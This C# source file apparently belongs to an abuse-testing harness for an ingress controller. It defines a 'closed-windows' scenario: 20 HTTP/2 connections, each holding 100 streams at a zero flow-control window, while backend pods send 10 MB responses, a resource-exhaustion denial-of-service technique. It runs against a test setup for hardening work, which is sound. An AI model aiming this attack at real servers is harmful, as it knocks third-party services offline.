using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>HTTP/2 clients that let the server send nothing, on a hundred streams each, while pods send all they have.</summary>
sealed class ClosedWindows() : Attack("closed-windows", "S12", "20 HTTP/2 connections of 100 streams with a window of 0, pods that answer 10 MB")
{
    const int Connections = 20;
    const int Streams = 100;
    const int Length = 10 << 20;

    public override async Task RunAsync(AttackPlace place, CancellationToken end)
    {
        var host = await place.ServeAsync("windows", EvilPod.Answering(Length), end);
        var block = RawHttp2.Pseudo(host, "/");
        await Crowd.RunAsync(Connections, place.Tally, async (_, stop) =>
        {
            await using var connection = new RawHttp2(await place.ConnectAsync(place.Ports.Http, stop));
            await connection.BeginAsync(0, stop);
            for (var i = 0; i < Streams; i++)
                await connection.RequestAsync(block, false, stop);
            place.Tally.Add("requests", Streams);
            await connection.ReadAsync(place.Tally, () => connection.RequestAsync(block, false, stop), stop);
        }, end);
    }
}
